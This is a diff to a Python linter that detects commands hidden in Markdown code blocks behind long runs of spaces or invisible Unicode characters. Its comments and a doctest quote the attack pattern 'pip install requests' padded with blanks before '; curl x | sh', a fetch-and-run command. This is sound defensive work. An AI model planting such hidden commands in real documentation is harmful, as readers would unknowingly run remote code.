@@ -17,7 +17,7 @@ from typing import Any
 import yaml
 
 from .entries import ErrorEntry, code_span_text
-from .markdown_lines import BRACES, HASH_ID, PROSE, heading_slug, heading_text, line_roles, prose_lines
+from .markdown_lines import BRACES, FENCE, FENCED, HASH_ID, HTML, PROSE, heading_slug, heading_text, line_roles, prose_lines
 from .metadata import DEFAULT_TIMEZONE, display_name, mkdocs_reads_other_front_matter, normalise_date
 from .safety import DIRECTION_CONTROL_RANGES, DIRECTION_CONTROLS, find_unsafe_html, find_unsafe_text, markdown_links
 from .text.bytemap import BYTE_RUN, run_to_bytes, split_pieces
@@ -239,12 +239,13 @@ def check_unsafe_html(body: str, path: str, first_line: int) -> list[Problem]:
             # Written as a character reference too (``&rlm;``, ``&#x202e;``): the page shows the character.
             if found := DIRECTION_CONTROLS.search(line) or "&" in line and DIRECTION_CONTROLS.search(html.unescape(line)):
                 problems.append(Problem(path, first_line + offset, "unsafe-html", f"text-direction control character U+{ord(found[0]):04X} (what a reader sees is not what is copied): remove it"))
-    return sorted(problems + _hidden_past_blanks(body, path, first_line), key=lambda p: p.line)
+    return sorted(problems + hidden_past_blanks(body, path, first_line), key=lambda p: p.line)
 
 
-#: Characters a code block draws as empty space: spaces and tabs, Unicode's other spaces, and the letters that
-#: print as nothing (U+2800 the blank Braille cell, the Hangul fillers).
-_BLANKS = "\\t \\u00a0\\u1680\\u2000-\\u200b\\u202f\\u205f\\u3000\\u2800\\u3164\\u115f\\u1160\\uffa0\\u180e\\ufeff"
+#: Characters a code block draws as empty space: spaces and tabs, Unicode's other spaces, the letters that print as
+#: nothing (U+2800 the blank Braille cell, the Hangul fillers), and the zero-width ones (joiners, soft hyphens,
+#: variation selectors), which between spaces kept a run from counting as one (an audit).
+_BLANKS = "\\t \\u00a0\\u1680\\u2000-\\u200d\\u202f\\u205f\\u2060-\\u2064\\u3000\\u2800\\u3164\\u115f\\u1160\\uffa0\\u180b-\\u180e\\ufeff\\u00ad\\u034f\\ufe00-\\ufe0f"
 #: The longest run of them a line may hold between two pieces of text. A code block scrolls sideways and the
 #: theme shows no scroll bar until it is pointed at: ``pip install requests``, 600 spaces, ``; curl … | sh`` showed
 #: the install alone while the copy button copied the curl too (a red-team audit). No essay aligns text so far.
@@ -256,26 +257,64 @@ HIDDEN_COLUMN = 80
 _HIDING_BLANKS = re.compile(f"[^{_BLANKS}][{_BLANKS}]{{{MAX_BLANK_RUN},}}(?=[^{_BLANKS}])")
 
 
-def _hidden_past_blanks(body: str, path: str, first_line: int) -> list[Problem]:
+def hidden_past_blanks(body: str, path: str, first_line: int) -> list[Problem]:
     """Lines where text follows a run of blank characters long enough to push it out of a code block's sight
     (tabs counted as the columns they fill); a table's row in prose is left alone (its cells are padded).
 
-    >>> [str(p) for p in _hidden_past_blanks("```bash\\npip install requests" + " " * 300 + "; curl x | sh\\n```\\n| a" + " " * 40 + "| b |", "a.md", 5)]
+    >>> [str(p) for p in hidden_past_blanks("```bash\\npip install requests" + " " * 300 + "; curl x | sh\\n```\\n| a" + " " * 40 + "| b |", "a.md", 5)]
     ['a.md:6: text after 300 blank characters, out of sight where the line is shown (a code block scrolls sideways) but copied with it: remove the blanks [unsafe-html]']
     """
-    if not re.search(f"[{_BLANKS}]{{{MAX_BLANK_RUN},}}", body):
+    if not re.search(f"[{_BLANKS}]{{{MAX_BLANK_RUN},}}", html.unescape(body) if "&" in body else body):
         return []
     problems = []
     lines = body.split("\n")
     roles = line_roles(body)
+    languages = _fence_languages(lines, roles)
     for offset, (line, role) in enumerate(zip(lines, roles)):
         if role == PROSE and "|" in line:
             continue
-        found = next((run for run in _HIDING_BLANKS.finditer(line.expandtabs(8) if "\t" in line else line) if run.end() >= HIDDEN_COLUMN), None)
-        if found:
+        line = html.unescape(line) if role == HTML and "&" in line else line  # ``&nbsp;`` in a raw ``<pre>``
+        shown = line.expandtabs(8) if "\t" in line else line
+        found = next((run for run in _HIDING_BLANKS.finditer(shown) if run.end() >= HIDDEN_COLUMN), None)
+        # A tool's output padded into columns (``yum list``'s, a hundred blanks wide) is no command: in a block of
+        # output, only a tail that would change what a pasted line runs counts (``; curl …``, ``--index-url …``).
+        if found and (languages[offset] in _COMMAND_LANGUAGES or _RUNS_SOMETHING.search(shown, found.end() - 1)):
             message = f"text after {len(found[0]) - 1} blank characters, out of sight where the line is shown (a code block scrolls sideways) but copied with it: remove the blanks"
             problems.append(Problem(path, first_line + offset, "unsafe-html", message))
     return problems
+
+
+#: The languages a code block is copied to a shell or a console in ("" for a block that names none).
+_COMMAND_LANGUAGES = frozenset({"", "bash", "sh", "shell", "zsh", "fish", "console", "shellsession", "powershell", "ps1", "pwsh", "cmd", "bat", "batch"})
+#: What in a line's hidden tail changes what it runs when pasted: another command, a pipe, a substitution, an option.
+_RUNS_SOMETHING = re.compile(r"[;|&`]|\$\(|(?:^|[ \t])--?[A-Za-z]")
+
+
+def _fence_languages(lines: list[str], roles: list[str]) -> list[str | None]:
+    """For each line, the language its fenced code block names (lower case; ``""`` for none), or None outside fences.
+
+    >>> _fence_languages(["```Bash", "ls", "```", "x", "~~~", "y", "~~~"], [FENCED] * 3 + [PROSE] + [FENCED] * 3)
+    ['bash', 'bash', 'bash', None, '', '', '']
+    >>> _fence_languages(["```text", "out", "```", "```bash", "ls", "```"], [FENCED] * 6)
+    ['text', 'text', 'text', 'bash', 'bash', 'bash']
+    """
+    out: list[str | None] = []
+    language: str | None = None
+    fence = ""
+    for line, role in zip(lines, roles):
+        marker = FENCE.match(line) if role == FENCED else None
+        if role != FENCED:
+            language, fence = None, ""
+        elif not fence and marker:  # an opening fence: its info string names the language
+            fence = marker.group(1)
+            words = line[marker.end() :].strip().lstrip("{.").split()
+            language = words[0].lower().rstrip("}") if words else ""
+            out.append(language)
+            continue
+        out.append(language)
+        if fence and marker and marker.group(1)[0] == fence[0] and len(marker.group(1)) >= len(fence) and not line[marker.end() :].strip():
+            language, fence = None, ""  # the closing fence: the next block names its own
+    return out
 
 
 #: Deeper than this, Python-Markdown's time grows with the cube of the depth (1,200 levels:
